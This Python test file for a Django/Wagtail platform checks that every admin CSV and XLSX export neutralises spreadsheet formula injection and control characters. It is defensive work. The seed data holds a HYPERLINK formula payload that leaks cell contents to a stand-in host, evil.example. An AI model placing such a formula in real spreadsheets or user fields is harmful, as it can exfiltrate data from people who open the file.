"""Every spreadsheet the platform writes keeps what people typed as text: a formula stays a formula's
text, and a control character never breaks the file.

The export views are found in the URL configuration, not listed by hand: a new admin listing or report
with `list_export` is tested as soon as it exists, and fails here until the seed below reaches it.
"""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page, Workflow

from learning.certificates.services import certificate_issue
from learning.models import Cohort, Enrolment
from tests.factories import CohortFactory, EnrolmentFactory, UserFactory, make_course
from tests.toolkits import factories as f
from toolkits import services as toolkit_services
from toolkits.models import CheckIn, DownloadEvent

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
CONTROL = "\x0b"  # a vertical tab: openpyxl refuses to write a cell holding one


def _walk(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _walk(pattern.url_patterns, prefix + str(pattern.pattern))
        else:
            yield prefix + str(pattern.pattern), pattern


def export_routes() -> list[str]:
    """Every URL without parameters whose view writes a CSV/XLSX through Wagtail's export mixin."""
    routes = []
    for route, pattern in _walk(get_resolver().url_patterns):
        view_class = getattr(pattern.callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        # ModelViewSet hands its list_export to as_view(); reports declare it on the class.
        exports = pattern.callback.view_initkwargs.get("list_export") or view_class.list_export
        if exports and "<" not in route and not route.endswith("results/"):
            routes.append("/" + route.lstrip("^"))
    return sorted(routes)


ROUTES = export_routes()


def test_the_discovery_finds_the_projects_exports():
    # The discovery itself could silently find nothing: it must at least see the exports we know of.
    assert {
        "/admin/learning/cohorts/",
        "/admin/learning/enrolments/",
        "/admin/learning/certificates/",
        "/admin/reports/action-plans/",
        "/admin/reports/toolkit-downloads/",
    } <= set(ROUTES)


@pytest.fixture
def seeded(client):
    """A formula (with a control character in it) typed wherever a person can type text that an
    export shows: names, cohort, course and page titles, plans, cities, redirects."""
    staff = UserFactory(is_staff=True, is_superuser=True, display_name=FORMULA)
    course = make_course(title=FORMULA + CONTROL, lessons=1)
    cohort = CohortFactory(course=course, title=FORMULA + CONTROL)
    trainee = UserFactory(display_name=FORMULA, certificate_name=FORMULA + CONTROL)
    enrolment = EnrolmentFactory(cohort=cohort, user=trainee, status=Enrolment.Status.COMPLETED)
    certificate_issue(enrolment=enrolment, issued_by=staff)

    organisation = f.OrganisationFactory(name=FORMULA + CONTROL)
    plan = f.plan(organisation=organisation, title=FORMULA + CONTROL)
    # Final under a mentor's pairing, with an overdue check-in (Reports → Overdue check-ins).
    f.pairing(f.OrganisationFactory(name=FORMULA), organisation)
    toolkit_services.plan_transition(plan=plan, action="finalise", user=plan.created_by)
    CheckIn.objects.filter(plan=plan).update(due_on=timezone.localdate() - timedelta(days=5))
    doc = f.document(FORMULA)
    DownloadEvent.objects.create(
        document=doc, document_title=FORMULA + CONTROL, city=FORMULA, organisation=FORMULA
    )

    # Wagtail's own reports list pages: one with a formula title, locked, old, in moderation.
    page = Page.objects.get(pk=course.pk).specific
    page.save_revision(user=staff, log_action=True).publish(user=staff)
    Workflow.objects.filter(active=True).first().start(page, staff)
    Page.objects.filter(pk=page.pk).update(
        locked=True, locked_by=staff, locked_at=timezone.now(), last_published_at="2000-01-01T00:00Z"
    )
    Redirect.objects.create(old_path="/old-evil", redirect_link=FORMULA)

    client.force_login(staff)
    return client


def _cells(response, export_format) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("route", ROUTES)
def test_every_admin_export_writes_formulas_as_text(seeded, route, export_format):
    response = seeded.get(route, {"export": export_format})

    assert response.status_code == 200
    cells = _cells(response, export_format)
    # The seed reached this export (else the test proves nothing: extend `seeded`) and stayed text.
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), f"no seeded formula in {route}"
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert not [cell for cell in cells if CONTROL in cell]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_trainers_workspace_export_shares_the_same_rule(seeded, export_format):

    cohort = Cohort.objects.get(title__startswith="=")
    response = seeded.get(reverse(f"learning:workspace:export_{export_format}", args=[cohort.pk]))

    assert response.status_code == 200
    cells = _cells(response, export_format)
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
